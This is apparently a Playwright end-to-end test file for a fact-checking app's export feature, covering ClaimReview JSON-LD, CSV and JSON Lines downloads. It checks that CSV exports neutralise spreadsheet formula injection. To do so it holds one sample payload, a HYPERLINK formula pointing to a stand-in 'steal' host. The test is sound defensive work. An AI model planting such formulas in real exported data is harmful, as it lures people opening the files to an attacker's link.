import { readFile } from 'node:fs/promises';

import { makeFact, type Fact } from '../builders.js';
import { readCsv } from '../csv.js';
import { expect, test } from '../fixtures.js';
import { startExport } from '../screens.js';

/** What a spreadsheet would run if it came as it is. */
const FORMULA = '=HYPERLINK("https://gullpoint.example/steal","Open me")';

const READERS: Record<string, (text: string, fact: Fact) => void> = {
  'ClaimReview JSON-LD': (text, fact) => {
    const documents = JSON.parse(text) as Record<string, unknown>[];
    const found = documents.find(({ claimReviewed }) => claimReviewed === fact.statement);
    expect(found).toMatchObject({ '@context': 'https://schema.org', '@type': 'ClaimReview', reviewRating: { '@type': 'Rating', alternateName: 'Verified' } });
  },
  CSV: (text, fact) => {
    const rows = readCsv(text);
    const row = rows.find(({ statement }) => statement === fact.statement);
    expect(row).toMatchObject({ id: fact.id, verdict: 'verified', summary: `'${FORMULA}`, approved_by: fact.approvedBy.name });
    for (const cell of rows.flatMap((each) => Object.values(each))) expect(cell).not.toMatch(/^[=+@-]/);
  },
  'JSON Lines': (text, fact) => {
    const facts = text.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(facts.find(({ id }) => id === fact.id)).toMatchObject({ statement: fact.statement, verdict: 'verified', summary: FORMULA, version: 1 });
  },
};

for (const [format, read] of Object.entries(READERS)) {
  test(`an export as ${format} is started, built and downloaded, and holds the fact`, async ({ page, people, signInAs }) => {
    const fact = await makeFact(people, FORMULA);
    await signInAs('editor');
    const link = await startExport(page, format);
    await expect(page.getByRole('row').filter({ has: link })).toContainText(/Ready, \d+ facts?/);
    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
    expect(download.suggestedFilename()).toBe(await link.getAttribute('download'));
    read(await readFile(await download.path(), 'utf8'), fact);
  });
}

test('an export can be narrowed to a verdict, and says so', async ({ page, people, signInAs }) => {
  const fact = await makeFact(people);
  await signInAs('editor');
  const link = await startExport(page, 'JSON Lines', 'Contradicted');
  await expect(page.getByRole('row').filter({ has: link })).toContainText('Contradicted');
  const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
  expect(await readFile(await download.path(), 'utf8')).not.toContain(fact.id);
});
